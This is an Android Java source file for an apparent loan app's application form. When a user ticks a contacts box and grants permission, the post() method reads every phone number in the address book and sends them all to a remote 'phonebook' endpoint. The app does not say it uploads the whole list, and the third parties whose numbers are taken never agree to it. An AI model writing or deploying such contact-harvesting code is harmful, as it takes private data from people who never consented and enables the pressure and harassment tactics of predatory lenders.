package com.boxesclearedinturn.app;

import android.Manifest;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.widget.CheckBox;
import android.widget.EditText;
import android.widget.Toast;

import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;

/** The application: each of its pages takes the place of the one before. */
public class LoanActivity extends PageActivity {
    private static final int ASKED = 31;

    private String sum = "";

    @Override
    protected void onCreate(Bundle saved) {
        super.onCreate(saved);
        setContentView(R.layout.form);
        findViewById(R.id.send).setOnClickListener(view -> next());
    }

    private void next() {
        sum = text(R.id.sum);
        if (!isTicked(R.id.terms)) {
            Toast.makeText(this, R.string.choose, Toast.LENGTH_SHORT).show();
            return;
        }
        if (isTicked(R.id.contacts)) {
            ask();
        } else {
            send(text(R.id.phone));
        }
    }

    private boolean isTicked(int id) {
        return ((CheckBox) findViewById(id)).isChecked();
    }

    private void ask() {
        requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, ASKED);
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] permissions, int[] results) {
        boolean granted = results.length > 0 && results[0] == PackageManager.PERMISSION_GRANTED;
        if (granted) {
            sendPhonebook();
        } else {
            send(text(R.id.phone));
        }
    }

    private void send(String reference) {
        Server.send("/v1/loan", sum + ";" + reference);
        Toast.makeText(this, R.string.sent, Toast.LENGTH_LONG).show();
        finish();
    }

    private String text(int id) {
        return ((EditText) findViewById(id)).getText().toString();
    }

    private void sendPhonebook() {
        new Thread(() -> {
            try {
                post();
            } catch (IOException fault) {
                return;
            }
            runOnUiThread(() -> send(""));
        }).start();
    }

    private void post() throws IOException {
        HttpURLConnection line = (HttpURLConnection)
                new URL("https://api.maplefieldcredit.example/v1/phonebook").openConnection();
        line.setDoOutput(true);
        Cursor rows = getContentResolver().query(
                Phone.CONTENT_URI, new String[] {Phone.NUMBER}, null, null, null);
        while (rows != null && rows.moveToNext()) {
            line.getOutputStream().write((rows.getString(0) + ";").getBytes());
        }
        line.getResponseCode();
    }
}
